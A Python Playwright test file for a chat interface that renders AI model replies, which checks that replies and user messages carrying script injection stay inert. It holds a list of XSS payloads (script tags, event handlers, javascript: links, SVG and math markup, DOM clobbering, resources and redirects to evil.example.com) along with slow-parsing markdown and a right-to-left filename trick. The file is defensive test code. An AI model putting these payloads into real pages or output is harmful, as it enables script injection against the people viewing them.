"""A model that attacks who reads it: nothing of what it says runs, leads elsewhere, or asks anybody."""

# ruff: noqa: E501 - an attack is as long as it is

import base64
from typing import Any

import pytest

from tests.page.browsing import Served, Watched, wait_for_words
from tests.page.script import Script, reasoning, tool_use

ELSEWHERE = "https://evil.example.com"
SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1"/>').decode()
ATTACKS = {
    "script": "<script>window.hacked=1</script><script src='https://evil.example.com/x.js'></script>",
    "handlers": "<img src=x onerror='window.hacked=1'><b onmouseover='window.hacked=1' style='position:fixed'>b</b>",
    "links": (
        "[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>1</script>) "
        "<a href='java\tscript:window.hacked=1'>d</a> [e](vbscript:x) <https://evil.example.com/f>"
    ),
    "svg": "<svg onload='window.hacked=1'><script>window.hacked=1</script><use href='data:image/svg+xml;base64,x'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror='window.hacked=1'></style></mglyph></table></mtext></math>",
    "pictures": (
        f"![a]({ELSEWHERE}/pixel.png) <img src='{ELSEWHERE}/b.png' srcset='{ELSEWHERE}/c.png 2x'> ![d](//evil.example.com/d) "
        f"<picture><source srcset='{ELSEWHERE}/e'></picture> <video poster='{ELSEWHERE}/f' src='{ELSEWHERE}/g'></video> "
        f"![svg](data:image/svg+xml;base64,{SVG}) <body background='{ELSEWHERE}/h'>"
    ),
    "frames": f"<iframe src='{ELSEWHERE}'></iframe><iframe srcdoc='<script>parent.hacked=1</script>'></iframe>"
    f"<object data='{ELSEWHERE}'></object><embed src='{ELSEWHERE}'>",
    "forms": f"<form action='{ELSEWHERE}'><input name=q value=1 autofocus onfocus='window.hacked=1'><button>Go</button></form>",
    "head": f"<base href='{ELSEWHERE}/'><meta http-equiv='refresh' content='0;url={ELSEWHERE}'>"
    f"<link rel='stylesheet' href='{ELSEWHERE}/x.css'><style>@import url({ELSEWHERE}/y.css); * {{ display: none }}</style>",
    "clobbering": "<form id='settings'></form><a id='column' name='rows'>x</a><img name='getElementById'>",
    "code": '```html\n<script>window.hacked=1</script>\n```\n`<img src=x onerror=window.hacked=1>`\n```"><script>hacked=1</script>\nx\n```',
    "templates": "<template shadowrootmode='open'><script>window.hacked=1</script></template><noscript><img src=x></noscript>",
}
LIVING = "script, iframe, object, embed, form form, base, meta[http-equiv], link, style, svg script, [onerror], [onload], [style]"
END = "That is all."


def say(page: Any, text: str) -> None:
    page.locator("#prompt").fill(text)
    page.keyboard.press("Enter")


def check_unharmed(page: Any) -> None:
    """Nothing ran, and what was said holds nothing that could."""
    assert page.evaluate("typeof window.hacked") == "undefined"
    talk = page.locator("#talk")
    assert talk.locator(LIVING).count() == 0
    addresses = talk.locator("[href], [src], [action], [srcset], [poster]").evaluate_all(
        "found => found.flatMap(it => ['href', 'src', 'action', 'srcset', 'poster'].map(name => it.getAttribute(name)))"
        ".filter(Boolean)"
    )
    allowed = ("https://", "http://", "mailto:", "#", "blob:", "data:image/png", "data:image/jpeg")
    assert [address for address in addresses if not address.lower().startswith(allowed)] == []
    for link in talk.locator("a[href^=http]").all():
        assert "noopener" in (link.get_attribute("rel") or "")
        assert link.get_attribute("target") == "_blank"


def test_nothing_that_a_model_says_runs(open_page: Any, script: Script) -> None:
    script.say("\n\n".join([*ATTACKS.values(), END]))
    page = open_page()

    say(page, "Attack me.")

    wait_for_words(page, END)
    check_unharmed(page)
    page.reload()
    wait_for_words(page, END)
    check_unharmed(page)


def test_nothing_runs_in_reasoning_tools_titles_and_what_people_send(open_page: Any, script: Script) -> None:
    attack = "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script>"
    script.say([reasoning(attack), attack, tool_use("fail", why=attack)], [tool_use(attack, x=attack)], END)
    page = open_page()

    say(page, attack)

    wait_for_words(page, END)
    for summary in page.locator("#talk summary").all():
        summary.click()
    check_unharmed(page)
    page.reload()
    wait_for_words(page, END)
    check_unharmed(page)
    assert page.evaluate("typeof window.hacked") == "undefined"


def test_a_megabyte_of_markdown_is_shown_and_the_page_still_answers(open_page: Any, script: Script) -> None:
    lines = [
        "# A heading",
        "* a *list* with `code`",
        "> > > quoted",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "[x](y) ![a](b)",
    ]
    script.say("\n\n".join(lines * (1_000_000 // sum(len(line) + 2 for line in lines)) + [END]), "And a short one.")
    page = open_page()
    page.set_default_timeout(120_000)

    say(page, "Much.")
    wait_for_words(page, END)
    say(page, "Little.")

    wait_for_words(page, "And a short one.")
    check_unharmed(page)


@pytest.mark.parametrize("words", ["*" * 50_000, "[" * 20_000, "> " * 5_000, "<" * 50_000, "`" * 30_001, "- " * 3_000])
def test_markdown_that_is_made_to_be_slow_does_not_stop_the_page(words: str, open_page: Any, script: Script) -> None:
    script.say(f"{words}\n\n{END}")
    page = open_page()

    say(page, "Slowly.")

    wait_for_words(page, END)
    assert page.evaluate("1 + 1") == 2


def test_letters_that_hide_or_turn_others_stay_in_their_place(open_page: Any, script: Script, server: Served) -> None:
    turned, hidden = "\u202egnp.exe\u202c", "in\u200bvis\u2060ible\ufeff"
    script.say(f"Open {turned} and {hidden}.\n\nThe next line reads as ever. {END}")
    page = open_page()

    say(page, "Turn.")

    wait_for_words(page, END)
    directions = page.locator("#talk").evaluate(
        "talk => [...talk.querySelectorAll('p')].map(p => getComputedStyle(p).unicodeBidi)"
    )
    assert directions
    assert set(directions) & {"isolate", "plaintext", "isolate-override"}


def test_a_page_around_it_does_not_show_it(open_page: Any, watched: Watched, server: Served) -> None:
    page = open_page("/health")
    watched.allow("frame-ancestors", "404")  # and /health has no icon

    page.evaluate(
        "() => { const frame = document.createElement('iframe'); frame.src = '/'; document.body.append(frame); }"
    )
    page.wait_for_timeout(300)  # a frame that is refused says nothing

    assert page.frames[-1].evaluate("document.querySelector('#talk')") is None
